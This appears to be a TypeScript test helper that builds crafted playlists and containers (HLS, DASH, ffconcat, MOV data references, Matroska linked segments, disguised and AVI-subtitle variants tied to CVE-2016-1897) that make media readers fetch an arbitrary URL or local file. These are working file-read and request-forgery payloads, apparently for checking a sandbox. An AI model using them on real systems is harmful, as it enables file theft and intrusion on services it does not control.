import { box, fullBox, text, uint16, uint32 } from '../functions/stream/media/boxes/write-box.ts';

/** A file that refers to another one, in the hope that its reader opens that too. */
export type AttackFile = {
  readonly kind: string;
  readonly bytes: Buffer;
  /** Arguments with which a program without a sandbox follows the reference. */
  readonly openings: readonly string[];
};

/**
 * Returns every kind of file that is known to refer to others, pointing at `target`: a URL, or the path of a
 * file.
 */
export function attackFiles(target: string): AttackFile[] {
  const url = /^\w+:/.test(target) ? target : `file://${target}`;
  const path = target.replace(/^\w+:/, '');
  const hls = `#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n${url}\n#EXT-X-ENDLIST\n`;
  const concat = `ffconcat version 1.0\nfile '${target}'\n`;
  const playlists: Record<string, string> = {
    hls,
    'hls-path': hls.replace(url, target),
    'hls-key': hls.replace('#EXTINF', `#EXT-X-KEY:METHOD=AES-128,URI="${url}"\n#EXTINF`),
    'hls-master': `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n${url}\n`,
    dash: mpd(url),
    ffconcat: concat,
    concat: `file '${target}'\n`,
    sdp: sdp(),
    asx: `<asx version="3.0"><entry><ref href="${url}"/></entry></asx>\n`,
    pls: `[playlist]\nFile1=${url}\nNumberOfEntries=1\n`,
    smil: `<smil><body><video src="${url}"/></body></smil>\n`,
    lavfi: `amovie='${path}'\n`,
  };
  // The same playlists after bytes that other readers skip, or that begin another kind of file.
  const disguises: Record<string, Buffer> = {
    'hls behind an ID3 tag': Buffer.concat([id3(), text(hls)]),
    'dash behind an ID3 tag': Buffer.concat([id3(), text(mpd(url))]),
    'ffconcat behind an ID3 tag': Buffer.concat([id3(), text(concat)]),
    'dash behind the magic of FLV': Buffer.concat([text('FLV\x01\x05\0\0\0\t'), text(mpd(url))]),
    'sdp behind the magic of RealMedia': Buffer.concat([text('.RMF\0\n'), text(sdp())]),
    'hls in the subtitles of an AVI': aviWithSubtitles(text(hls)),
  };
  const drefs = ['-enable_drefs', '1', '-use_absolute_path', '1'];
  const containers: Record<string, [Buffer, string[]]> = {
    'mov with an alias': [movie('alis', aliasTo(path)), drefs],
    'mov with a url': [movie('url ', text(`${url}\0`)), drefs],
    'mov that is a reference movie': [referenceMovie(url), drefs],
    'mkv with linked segments': [linkedMatroska(target), []],
  };
  return [
    ...Object.entries(playlists).map(([kind, lines]) => {
      const openings = kind.includes('concat') ? ['-f', 'concat', '-safe', '0'] : [];
      return { kind, bytes: Buffer.from(lines), openings };
    }),
    ...Object.entries(disguises).map(([kind, bytes]) => ({ kind, bytes, openings: [] })),
    ...Object.entries(containers).map(([kind, [bytes, openings]]) => ({ kind, bytes, openings })),
  ];
}

const mpd = (url: string) =>
  '<?xml version="1.0"?>\n<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" profiles="urn:mpeg:dash:profile:isoff-live:2011" ' +
  'type="static" mediaPresentationDuration="PT2S"><Period><AdaptationSet mimeType="audio/wav">' +
  `<Representation id="1" bandwidth="1"><BaseURL>${url}</BaseURL></Representation></AdaptationSet></Period></MPD>\n`;

const sdp = () =>
  'v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio 9 RTP/AVP 11\na=rtpmap:11 L16/8000/1\n';

/** Writes an empty tag of ten bytes after its head. */
const id3 = () => Buffer.from([0x49, 0x44, 0x33, 4, 0, 0, 0, 0, 0, 10, ...Array(10).fill(0)]);

/**
 * Writes an AVI whose subtitle track holds a file of its own, of a guessed kind (CVE-2016-1897 and its kin).
 */
function aviWithSubtitles(file: Buffer): Buffer {
  const header = chunk('strh', Buffer.from('txts'.padEnd(56, '\0')));
  const name = Buffer.from('a\0\0\0', 'latin1');
  const packet = Buffer.concat([
    text('GAB2\0'),
    le(2, 2),
    le(4, 4),
    name,
    le(4, 2),
    le(file.length, 4),
    file,
  ]);
  const avih = chunk('avih', Buffer.alloc(56));
  const lists = [
    list('hdrl', avih, list('strl', header, chunk('strf', Buffer.alloc(40)))),
    list('movi', chunk('00tx', packet)),
  ];
  return chunk('RIFF', Buffer.concat([text('AVI '), ...lists]));
}

const chunk = (name: string, body: Uint8Array) =>
  Buffer.concat([text(name), le(body.length, 4), body, Buffer.alloc(body.length % 2)]);
const list = (name: string, ...chunks: Uint8Array[]) => chunk('LIST', Buffer.concat([text(name), ...chunks]));

function le(value: number, bytes: number): Buffer {
  const out = Buffer.alloc(bytes);
  out.writeUIntLE(value, 0, bytes);
  return out;
}

const SAMPLES = 4_000;

/**
 * Writes 16-bit audio whose samples lie in another file, which a data reference names (ISO/IEC 14496-12
 * §8.7.2).
 */
function movie(type: 'alis' | 'url ', reference: Uint8Array): Buffer {
  const matrix = uint32(0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000);
  const times = uint32(0, 0, 8_000, SAMPLES);
  const none = (count: number) => Buffer.alloc(count);
  const entry = box(
    'sowt',
    ...[none(6), uint16(1), none(8), uint16(1), uint16(16), none(4), uint16(8_000), uint16(0)],
  );
  const table = [
    fullBox('stsd', 0, 0, uint32(1), entry),
    fullBox('stts', 0, 0, uint32(1), uint32(SAMPLES), uint32(1)),
    fullBox('stsc', 0, 0, uint32(1), uint32(1), uint32(SAMPLES), uint32(1)),
    fullBox('stsz', 0, 0, uint32(2), uint32(SAMPLES)),
    fullBox('stco', 0, 0, uint32(1), uint32(0)),
  ];
  const dref = fullBox('dref', 0, 0, uint32(1), fullBox(type, 0, 0, reference));
  const minf = box('minf', fullBox('smhd', 0, 0, none(4)), box('dinf', dref), box('stbl', ...table));
  const hdlr = fullBox('hdlr', 0, 0, text('mhlrsoun'), none(13));
  const mdia = box('mdia', fullBox('mdhd', 0, 0, times, none(4)), hdlr, minf);
  const tkhd = fullBox('tkhd', 0, 7, none(8), uint32(1), none(4), uint32(SAMPLES), none(16), matrix, none(8));
  const mvhd = fullBox('mvhd', 0, 0, times, uint32(0x10000), none(12), matrix, none(24), uint32(2));
  return Buffer.concat([
    box('ftyp', text('qt  '), uint32(512), text('qt  ')),
    box('moov', mvhd, box('trak', tkhd, mdia)),
    box('mdat', none(2 * SAMPLES)),
  ]);
}

/**
 * Writes an alias record of the classic Mac OS: a head of fixed fields, then the whole path as a field of
 * type 2.
 */
function aliasTo(path: string): Buffer {
  const even = path.length % 2 === 0 ? path : `${path}\0`;
  const head = Buffer.alloc(150);
  const name = path.slice(path.lastIndexOf('/') + 1);
  head.write(name, 51, 'latin1');
  head[50] = name.length;
  return Buffer.concat([head, uint16(2), uint16(even.length), text(even), uint16(0xffff), uint16(0)]);
}

const referenceMovie = (url: string) =>
  Buffer.concat([
    box('ftyp', text('qt  '), uint32(512), text('qt  ')),
    box(
      'moov',
      box('rmra', box('rmda', fullBox('rdrf', 0, 0, text('url '), uint32(url.length + 1), text(`${url}\0`)))),
    ),
  ]);

/** Writes Matroska that claims to continue in another file, and carries one of that name. */
function linkedMatroska(target: string): Buffer {
  const uid = Buffer.alloc(16, 7);
  const info = element('1549a966', [
    element('2ad7b1', uint32(1_000_000)),
    element('73a4', uid),
    element('3eb923', uid),
    element('3e83bb', text(target)),
    element('4d80', text('x')),
    element('5741', text('x')),
  ]);
  const track = element('1654ae6b', [
    element('ae', [
      element('d7', Buffer.of(1)),
      element('73c5', Buffer.of(1)),
      element('83', Buffer.of(2)),
      element('86', text('A_PCM/INT/LIT')),
      element('e1', [
        element('b5', Buffer.from('45fa0000', 'hex')),
        element('9f', Buffer.of(1)),
        element('6264', Buffer.of(16)),
      ]),
    ]),
  ]);
  const chapter = element('b6', [
    element('73c4', Buffer.of(1)),
    element('91', Buffer.of(0)),
    element('6e67', uid),
  ]);
  const attached = element('61a7', [
    element('466e', text(target)),
    element('4660', text('application/x-truetype-font')),
    element('465c', text(target)),
    element('46ae', Buffer.of(1)),
  ]);
  const block = element('a3', Buffer.concat([Buffer.from('81000080', 'hex'), Buffer.alloc(2 * SAMPLES)]));
  const segment = element('18538067', [
    info,
    track,
    element('1043a770', element('45b9', chapter)),
    element('1941a469', attached),
    element('1f43b675', [element('e7', Buffer.of(0)), block]),
  ]);
  const ebml = element('1a45dfa3', [element('4282', text('matroska')), element('4287', Buffer.of(4))]);
  return Buffer.concat([ebml, segment]);
}

/** Writes an EBML element: an id, a size in eight bytes, a body. */
function element(id: string, body: Uint8Array | readonly Uint8Array[]): Buffer {
  const bytes = body instanceof Uint8Array ? body : Buffer.concat(body);
  const size = Buffer.alloc(8);
  size.writeBigUInt64BE(0x0100_0000_0000_0000n + BigInt(bytes.length));
  return Buffer.concat([Buffer.from(id, 'hex'), size, bytes]);
}
